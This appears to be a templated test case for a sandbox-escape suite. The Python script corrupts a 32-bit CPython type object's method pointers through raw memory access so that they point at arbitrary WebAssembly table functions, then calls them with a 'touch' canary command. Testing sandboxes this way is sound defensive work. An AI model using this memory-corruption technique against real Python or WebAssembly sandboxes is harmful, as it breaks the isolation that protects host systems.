# leak: overwrites a type's method pointer with the number of any function of the WebAssembly table and calls it with text of its own. Escape: a host effect.
# with: whole_memory
# indexes: 40
import struct

memory = whole_memory()


class Target:
    pass


thing = Target()
number = int('@INDEX@')
# the offsets of tp_repr, tp_hash, tp_call, tp_getattro, tp_richcompare and tp_iternext in a type object of 32-bit CPython
offset, call = [
    (44, lambda: repr(thing)),
    (60, lambda: hash(thing)),
    (64, lambda: thing('touch @CANARY_DIR@/canary_slot')),
    (72, lambda: thing.touch),
    (104, lambda: thing == 'touch @CANARY_DIR@/canary_slot'),
    (116, lambda: next(thing)),
][number % 6]
struct.pack_into('<I', memory, id(Target) + offset, (number * 1181 + 3) % 14000)
call()
